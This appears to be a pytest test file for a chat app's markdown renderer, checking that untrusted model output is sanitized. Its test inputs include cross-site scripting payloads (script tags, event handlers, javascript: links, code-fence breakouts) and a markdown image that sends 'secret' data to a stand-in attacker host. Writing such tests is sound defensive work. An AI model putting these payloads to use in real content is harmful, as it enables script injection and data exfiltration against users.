"""Untrusted model and tool text is rendered inert."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from boocode.chat.turn.titles import auto_title
from boocode.chat.wire.rendering import (
    ALLOWED_TAGS,
    HIGHLIGHT_MAX_CHARS,
    TOKEN_CLASSES,
    image_data_url,
    images_for,
    markdown_text,
    pygments_stylesheet,
    render_markdown,
)
from tests.support.html import elements

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\x00" * 16).decode()


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "<a href='javascript:alert(1)'>x</a>",
        "<iframe src='https://example.com'></iframe>",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "<svg onload=alert(1)>",
    ],
)
def test_markdown_cannot_inject_markup(text: str) -> None:
    for tag, attributes in elements(render_markdown(text)):
        assert tag in ALLOWED_TAGS
        for name, value in attributes:
            assert not name.startswith("on")
            assert not (value or "").lower().startswith("javascript:")


def test_markdown_keeps_formatting_and_safe_links() -> None:
    html = render_markdown("**bold** `code` [site](https://example.com)\n\n| a |\n|---|\n| 1 |")
    assert "<strong>bold</strong>" in html and "<code>code</code>" in html and "<table>" in html
    assert 'href="https://example.com"' in html and 'rel="noopener noreferrer nofollow"' in html


def test_markdown_images_are_never_loaded() -> None:
    html = render_markdown("![secret](https://attacker.example/?data=secret)")
    assert "<img" not in html


def test_only_raster_images_with_valid_base64_become_data_urls() -> None:
    assert (
        image_data_url({"type": "image", "mime_type": "image/png", "data": PNG})
        == f"data:image/png;base64,{PNG}"
    )
    assert image_data_url({"type": "image", "mime_type": "image/svg+xml", "data": PNG}) is None
    assert image_data_url({"type": "image", "mime_type": "text/html", "data": PNG}) is None
    assert (
        image_data_url({"type": "image", "mime_type": "image/png", "data": 'not base64!"><script>'}) is None
    )
    assert image_data_url({"type": "audio", "mime_type": "audio/wav", "data": PNG}) is None


def test_images_for_counts_what_it_leaves_out() -> None:
    parts = [
        {"type": "image", "mime_type": "image/png", "data": PNG},
        {"type": "image", "mime_type": "image/svg+xml", "data": PNG},
        {"type": "audio", "mime_type": "audio/wav", "data": PNG},
    ]
    urls, left_out = images_for(parts)
    assert len(urls) == 1 and left_out == 1


# --- code highlighting, links, plain text ----------------------------------------------------
def test_fenced_code_is_highlighted_with_token_classes() -> None:
    html = render_markdown('```python\ndef f(x):\n    return "<b>"  # note\n```\n')
    assert html.startswith('<pre class="code"><code class="language-python"><span class="tok-k">def</span>')
    assert '<span class="tok-s2">"&lt;b&gt;"</span>' in html and '<span class="tok-c1"># note</span>' in html
    for _, attributes in elements(html):
        for name, value in attributes:
            assert name == "class" and (value or "").split()[0] in ALLOWED_CLASSES_FLAT, value


ALLOWED_CLASSES_FLAT = {"code", "language-python"} | set(TOKEN_CLASSES)


def test_language_names_are_normalised_and_unknown_ones_stay_plain() -> None:
    assert 'class="language-python"' in render_markdown("```PY\nx = 1\n```")
    plain = render_markdown('```nosuchlang onclick="x"\n<script>alert(1)</script>\n```')
    assert plain == '<pre class="code"><code>&lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre>\n'
    assert render_markdown("```\nplain\n```") == '<pre class="code"><code>plain\n</code></pre>\n'


def test_highlighting_cannot_smuggle_markup() -> None:
    # A fence that tries to close the code block, and a span with a class of its own choosing.
    for text in (
        "```html\n</code></pre><script>alert(1)</script>\n```",
        '```js\n<span class="tok-k" onmouseover="alert(1)">x</span>\n```',
        '<span class="tok-k">raw html is text</span>',
    ):
        for tag, attributes in elements(render_markdown(text)):
            assert tag in ALLOWED_TAGS and tag != "script"
            assert all(not name.startswith("on") for name, _ in attributes)


def test_very_long_code_is_not_lexed() -> None:
    code = "x = 1\n" * (HIGHLIGHT_MAX_CHARS // 6 + 10)
    html = render_markdown(f"```python\n{code}```")
    assert html.startswith('<pre class="code"><code class="language-python">x = 1') and "tok-" not in html


def test_links_open_in_a_new_tab_safely() -> None:
    html = render_markdown("[docs](https://example.com/docs)")
    link = '<a href="https://example.com/docs" target="_blank" rel="noopener noreferrer nofollow">docs</a>'
    assert html == f"<p>{link}</p>\n"


def test_the_stylesheet_is_current_and_covers_both_themes() -> None:
    css = (Path(__file__).resolve().parents[3] / "static" / "chat" / "pygments.css").read_text()
    assert css == pygments_stylesheet()  # regenerate: see the file's first line
    assert "pre.code .tok-k {" in css
    assert '[data-theme="dark"] pre.code .tok-k {' in css
    media = css[css.index("@media (prefers-color-scheme: dark) {") :]
    assert '\n  :root:not([data-theme="light"]) pre.code .tok-k {' in media


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("# Plan a **trip** to [Rome](https://rome.example)", "Plan a trip to Rome"),
        ("- `ls -la` and *more*\n- second", "ls -la and more second"),
        ("```python\nprint(1)\n```", "print(1)"),
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
        ("   ", ""),
    ],
)
def test_markdown_text(text: str, plain: str) -> None:
    assert markdown_text(text) == plain


@pytest.mark.parametrize(
    ("text", "title"),
    [
        ("Hello **world**", "Hello world"),
        ("word " * 20, "word " * 11 + "word…"),
        ("x" * 80, "x" * 59 + "…"),
        ("## \n\n***", "## ***"),  # no words at all: the text as typed
        ("", "New conversation"),
    ],
)
def test_titles_from_the_first_message_are_short_plain_text(text: str, title: str) -> None:
    made = auto_title(text)
    assert made == title and len(made) <= 60
